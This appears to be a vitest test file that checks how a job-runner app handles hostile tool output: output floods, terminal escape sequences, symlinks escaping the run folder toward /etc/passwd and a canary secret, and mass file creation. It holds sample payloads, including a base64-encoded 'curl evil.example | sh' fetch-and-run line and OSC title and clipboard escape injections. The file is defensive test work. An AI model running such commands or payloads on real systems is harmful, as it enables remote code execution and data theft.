import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { JobRecord } from '../../shared/jobs';
import { PREVIEW_BYTES } from '../../shared/results';
import { MAX_LINE_CHARS } from '../../main/runner';
import { plainText, toSegments } from '../../renderer/features/console/ansi';
import { BASH, customTool, HostileApp, makeProject, newMarker, NODE, tempDir, tool, type TempDir } from './support/harness';
import { MB, memoryGrowth } from './support/memory';
import { findLeftovers, killLeftovers } from './support/procs';
import { treeHash } from './support/tree-hash';
import { readZip } from './support/zip';

/**
 * Hostile output: a flood without newlines, terminal control sequences and invalid UTF-8, links out of the run
 * folder, and 50,000 files. The engine keeps bytes as they are (the log is the tool's own words), keeps its memory
 * bounded, never reads through a link, and the console turns the text into inert spans.
 */
const FLOOD_BYTES = 100 * MB;
const MANY_FILES = 50_000;
// Controls a terminal would obey; none may reach a console span.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/; // eslint-disable-line no-control-regex

const marks = { flood: newMarker('flood'), ansi: newMarker('ansi'), links: newMarker('links'), many: newMarker('many') };

let tmp: TempDir;
let app: HostileApp;
let project: string;
let projectId: string;
let hashBefore: string;
let canary: string;
let canaryText: string;
const jobIds: string[] = [];

beforeAll(async () => {
  tmp = await tempDir('output');
  project = await makeProject(tmp.path);
  hashBefore = await treeHash(project);
  canaryText = `CANARY-${newMarker('secret')}`;
  canary = path.join(tmp.path, 'outside', 'secret.txt');
  await mkdir(path.dirname(canary));
  await writeFile(canary, `${canaryText}\n`);
  app = await HostileApp.start(
    {
      queue: { concurrency: 2, capacity: 100, perClientActive: 5, perClientHourly: 0 },
      customTools: [
        customTool('flood', BASH, [tool('no-newline.sh'), marks.flood, String(FLOOD_BYTES)], 60),
        customTool('ansi', BASH, [tool('ansi.sh'), marks.ansi], 10),
        customTool('links', BASH, [tool('links.sh'), marks.links, '{output}', canary], 10),
        customTool('many-files', NODE, [tool('many-files.mjs'), marks.many, '{output}', String(MANY_FILES)], 60),
      ],
      // Above the flood, so all of it streams through and only the in-memory bounds hold memory down.
      tools: { flood: { limits: { logBytes: 2 * FLOOD_BYTES } } },
    },
    { pickSavePath: async (name) => path.join(tmp.path, 'exports', name) },
  );
  await mkdir(path.join(tmp.path, 'exports'));
  projectId = (await app.open(project)).projectId;
});
afterEach(async () => {
  await killLeftovers({ jobIds, markers: Object.values(marks) });
});
afterAll(async () => {
  await app?.dispose();
  await tmp?.remove();
});

async function runHostile(toolId: string, mark: string): Promise<{ record: JobRecord; rss: number; held: number }> {
  const { result: record, rss, held } = await memoryGrowth(() => app.run(projectId, toolId));
  jobIds.push(record.jobId);
  expect(await findLeftovers({ jobIds: [record.jobId], markers: [mark] })).toEqual([]);
  expect(await treeHash(project)).toBe(hashBefore);
  console.log(`[hostile] ${toolId}: ${record.status}, app memory growth: ${(held / MB).toFixed(0)} MB held, ${(rss / MB).toFixed(0)} MB rss peak`);
  return { record, rss, held };
}

describe('hostile output', () => {
  it('100 MB without a newline streams through with the app memory bounded', async () => {
    const { record, held, rss } = await runHostile('flood', marks.flood);
    expect(record.status).toBe('completed');
    expect(record.outputBytes).toBe(FLOOD_BYTES);
    // Holding the output would take 100 MB or more; the in-memory bounds (16 M characters of lines) keep it well below.
    expect(held).toBeLessThan(FLOOD_BYTES * 0.6);
    expect(rss).toBeLessThan(FLOOD_BYTES * 1.5);
    const detail = await app.call('jobs:get', { jobId: record.jobId });
    expect(detail.output.length).toBeGreaterThan(0);
    expect(Math.max(...detail.output.map((l) => l.text.length))).toBeLessThanOrEqual(MAX_LINE_CHARS);
    expect(detail.output.reduce((n, l) => n + l.text.length, 0)).toBeLessThan(FLOOD_BYTES / 2);
    // The log keeps every byte; its preview is only its head.
    expect((await stat(path.join(app.runDir(record.jobId), 'run.log'))).size).toBeGreaterThan(FLOOD_BYTES);
    const preview = await app.call('results:preview', { jobId: record.jobId, path: 'run.log' });
    expect(preview.truncated).toBe(true);
    expect(Buffer.byteLength(preview.text)).toBeLessThanOrEqual(PREVIEW_BYTES);
  });

  it('invalid UTF-8 and terminal control sequences pass through the engine and are inert in the console', async () => {
    const { record } = await runHostile('ansi', marks.ansi);
    expect(record.status).toBe('completed');
    const lines = (await app.call('jobs:get', { jobId: record.jobId })).output;
    const raw = lines.map((l) => l.text).join('\n');
    // The engine passes the tool's bytes through: escapes kept, invalid bytes as U+FFFD.
    expect(raw).toContain('\x1b]0;PWNED-TITLE\x07');
    expect(raw).toContain('\x1b]52;c;');
    expect(raw).toContain('bad utf8: \ufffd\ufffd');
    const payload = Buffer.from('curl evil.example | sh').toString('base64');
    expect(raw).toContain(payload);

    const shown = lines.map((l) => toSegments(l.text).map((s) => s.text).join(''));
    for (const text of [...shown, ...lines.map((l) => plainText(l))]) {
      expect(text).not.toMatch(CONTROL);
      expect(text).not.toContain('PWNED');
      expect(text).not.toContain(payload);
      expect(text).not.toContain('evil.example');
    }
    expect(shown).toContain('title: after-title');
    expect(shown).toContain('clipboard: after-clipboard');
    expect(shown).toContain('cursor: moved');
    expect(shown).toContain('colour: red bold-256 true');
    expect(shown).toContain('visible-after-cr');
    const colour = lines.find((l) => l.text.startsWith('colour:'));
    expect(toSegments(colour?.text ?? '').some((s) => s.className.includes('ansi-red-fg'))).toBe(true);
  });

  it('links out of the run folder are listed as links, never read through by tree, preview or export', async () => {
    const { record } = await runHostile('links', marks.links);
    expect(record.status).toBe('completed');
    const jobId = record.jobId;
    const seen: string[] = [];
    const call = async (channel: 'results:tree' | 'results:preview' | 'results:export' | 'jobs:diagnostics', payload: object) => {
      const res = await app.raw(channel, payload);
      seen.push(JSON.stringify(res));
      return res;
    };

    const tree = await call('results:tree', { jobId });
    if (!tree.ok) throw new Error(tree.error.message);
    const nodes = (tree.value as { nodes: { path: string; type: string }[] }).nodes;
    const links = ['output/passwd', 'output/canary', 'output/canary-dir', 'output/parent', 'output/grandparent', 'output/root', 'output/nested/up', 'output/nested/etc', 'input/main.sh', 'input/new-link.txt'];
    for (const link of links) {
      expect(nodes.find((n) => n.path === link)?.type, link).toBe('link');
      expect(nodes.some((n) => n.path.startsWith(`${link}/`)), `nothing listed under ${link}`).toBe(false);
      const preview = await call('results:preview', { jobId, path: link });
      expect(preview).toMatchObject({ ok: true, value: { kind: 'link', text: '', size: 0 } });
    }
    for (const through of ['output/parent/run.json', 'output/root/etc/passwd', 'output/canary-dir/secret.txt', 'output/nested/etc/passwd', 'output/nested/up/tmp', 'output/grandparent/runs']) {
      const res = await call('results:preview', { jobId, path: through });
      expect(res, through).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    }
    expect(record.filesProduced.map((f) => f.path)).toEqual(['output/real.txt']);

    const exported = await call('results:export', { jobId });
    if (!exported.ok) throw new Error(exported.error.message);
    const zip = await readZip((exported.value as { path: string }).path);
    expect(zip.map((e) => e.name).sort()).toEqual(['output/real.txt', 'run.json', 'run.log']);
    expect(zip.every((e) => !e.isLink)).toBe(true);
    for (const e of zip) {
      expect(e.data.toString('latin1')).not.toContain(canaryText);
      expect(e.data.toString('latin1')).not.toContain('root:x:0:0');
    }
    await call('jobs:diagnostics', { jobId });
    for (const s of seen) {
      expect(s).not.toContain(canaryText);
      expect(s).not.toContain('root:x:0:0');
    }
  });

  it('50,000 tiny output files: the record and the tree stay bounded', async () => {
    const { record, held } = await runHostile('many-files', marks.many);
    expect(record.status).toBe('completed');
    // The record holds a bounded list, not one entry per file the tool made.
    expect(record.filesProduced.length).toBeGreaterThan(0);
    expect(record.filesProduced.length).toBeLessThan(MANY_FILES);
    const tree = await app.call('results:tree', { jobId: record.jobId });
    expect(tree.nodes.length).toBeLessThanOrEqual(20_000);
    const runJson = (await readFile(path.join(app.runDir(record.jobId), 'run.json'))).length;
    const listed = JSON.stringify(await app.call('jobs:list', {})).length;
    console.log(
      `[hostile] 50,000 files: ${record.filesProduced.length} in the record, run.json ${(runJson / MB).toFixed(1)} MB, ` +
        `jobs:list ${(listed / MB).toFixed(1)} MB, tree ${tree.nodes.length} nodes`,
    );
    expect(runJson).toBeLessThan(4 * MB);
    expect(listed).toBeLessThan(4 * MB);
    expect(held).toBeLessThan(100 * MB);
  });
});
